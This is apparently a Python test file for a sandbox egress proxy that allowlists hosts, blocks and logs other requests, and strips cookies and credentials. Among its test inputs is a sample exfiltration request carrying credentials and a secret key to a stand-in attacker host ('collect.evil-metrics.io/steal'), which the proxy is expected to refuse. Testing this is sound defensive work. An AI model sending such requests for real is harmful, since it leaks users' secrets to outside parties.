"""The door of a cell: whom it lets through to, and what it writes down."""

import base64
import socket
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from runtime.cells.door import asked_for, head_of, login, port_of

ASK = """
import os, socket
host, _, port = os.environ["http_proxy"].removeprefix("http://").partition(":")
for request in requests:
    with socket.create_connection((host, int(port))) as door:
        door.settimeout(30)
        door.sendall(request)
        said = b""
        try:
            while more := door.recv(4096):
                said += more
        except ConnectionResetError:
            pass  # what was not read at the door
        print(said.partition(b"\\r\\n")[0].decode(), said.rpartition(b"\\n")[2].decode())
"""


class Page(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.asked.append((self.path, self.headers.get("Cookie", "")))  # type: ignore[attr-defined]
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"here you are")

    def log_message(self, *_args: object) -> None:
        pass


@contextmanager
def site() -> Iterator[ThreadingHTTPServer]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    server.asked = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def test_a_few_are_let_through_and_the_others_written_down(bench, say) -> None:
    with site() as server:
        port = server.server_address[1]
        bench.set(hosts=[("127.0.0.1", port)])
        other = port - 1
        requests = [
            f"GET http://127.0.0.1:{port}/simple/six/?a=1 HTTP/1.1\r\nHost: x\r\nCookie: a=b\r\n\r\n",
            f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n",
            f"CONNECT 127.0.0.1:{other} HTTP/1.1\r\n\r\n",
            f"POST http://127.0.0.1:{port}/upload HTTP/1.1\r\nContent-Length: 0\r\n\r\n",
            "GET http://user:pass@collect.evil-metrics.io/steal?key=secret HTTP/1.1\r\n\r\n",
            "GET / HTTP/1.1\r\n\r\n",
        ]
        requests[1] += "GET /within HTTP/1.0\r\n\r\n"
        said = say(ASK, requests=[one.encode() for one in requests]).splitlines()
        asked = server.asked  # type: ignore[attr-defined]
    assert said[0] == "HTTP/1.0 200 OK here you are"
    assert said[1] == "HTTP/1.1 200 Connection established here you are"
    assert [line[:12] for line in said[2:]] == ["HTTP/1.1 403", "HTTP/1.1 405", "HTTP/1.1 403", "HTTP/1.1 403"]
    assert asked == [("/simple/six/?a=1", ""), ("/within", "")]
    assert bench.notes.splitlines() == [
        '{"kind": "host", "what": "127.0.0.1"}',
        f'{{"kind": "request", "what": "CONNECT 127.0.0.1:{other}"}}',
        '{"kind": "host", "what": "collect.evil-metrics.io"}',
        '{"kind": "request", "what": "GET http://collect.evil-metrics.io/steal"}',
    ]


def test_what_follows_a_request_is_not_passed_on(bench, say) -> None:
    """A second one on the same connection could be for anybody."""
    with site() as server:
        port = server.server_address[1]
        bench.set(hosts=[("127.0.0.1", port)])
        twice = f"GET http://127.0.0.1:{port}/a HTTP/1.1\r\n\r\nGET http://127.0.0.1:{port}/b HTTP/1.1\r\n\r\n"
        say(ASK, requests=[twice.encode()])
        assert server.asked == [("/a", "")]  # type: ignore[attr-defined]


def test_it_goes_through_the_operators_proxy_with_the_password_that_the_cell_does_not_know(bench, say) -> None:
    heard: list[bytes] = []

    def proxy(listening: socket.socket) -> None:
        for answer in (
            b"HTTP/1.1 200 Yes\r\n\r\nhello",
            b"HTTP/1.1 407 Who are you\r\n\r\n",
            b"HTTP/1.1 200 Page\r\n\r\n",
        ):
            with listening.accept()[0] as accepted:
                heard.append(head_of(accepted))
                accepted.sendall(answer)

    with closing(socket.create_server(("127.0.0.1", 0))) as listening:
        thread = threading.Thread(target=proxy, args=(listening,))
        thread.start()
        proxy_url = f"http://me:p%40ss@127.0.0.1:{listening.getsockname()[1]}"
        bench.extra = {"HTTPS_PROXY": proxy_url, "HTTP_PROXY": proxy_url, "NO_PROXY": "other.invalid"}
        bench.set(hosts=[("index.invalid", 443), ("index.invalid", 80)])
        tunnel = b"CONNECT index.invalid:443 HTTP/1.1\r\n\r\n"
        said = say(ASK, requests=[tunnel, tunnel, b"GET http://index.invalid/six?a HTTP/1.1\r\n\r\n"]).splitlines()
        thread.join()
    assert said[0].startswith("HTTP/1.1 200")
    assert said[1].startswith("HTTP/1.1 502")
    assert said[2].startswith("HTTP/1.1 200 Page")
    assert heard[2].startswith(b"GET http://index.invalid/six?a HTTP/1.1\r\nHost: index.invalid\r\n")
    assert b"Proxy-Authorization: Basic " in heard[2]
    assert (
        bench.notes == '{"kind": "unreachable", "what": "index.invalid: the proxy answers HTTP/1.1 407 Who are you"}\n'
    )
    assert b"CONNECT index.invalid:443 HTTP/1.1\r\n" in heard[0]
    assert b"Proxy-Authorization: Basic " + base64.b64encode(b"me:p@ss") in heard[0]


@pytest.mark.parametrize(
    ("line", "asked"),
    [
        (b"CONNECT API.Service.io:443 HTTP/1.1\r\n", ("api.service.io", "CONNECT API.Service.io:443", 443)),
        (b"GET http://a.io/p?key=secret HTTP/1.0\r\n", ("a.io", "GET http://a.io/p", 80)),
        (b"CONNECT [2001:db8::1]:8443 HTTP/1.1\r\n", ("2001:db8::1", "CONNECT [2001:db8::1]:8443", 8443)),
        (b"PUT http://user:pass@b.io:8080/ HTTP/1.1\n", ("b.io", "PUT http://b.io:8080/", 8080)),
        (b"GET /only/a/path HTTP/1.1\r\n", None),
        (b"\x16\x03\x01\x02\x00", None),
        (b"", None),
    ],
)
def test_the_door_knows_who_is_asked_for(line: bytes, asked: tuple[str, str, int] | None) -> None:
    assert asked_for(line) == (asked[:2] if asked else None)
    if asked:
        assert port_of(line) == asked[2]


def test_a_proxy_without_a_password_is_told_none() -> None:
    assert (login("http://proxy.invalid:3128"), login("proxy.invalid")) == ("", "")
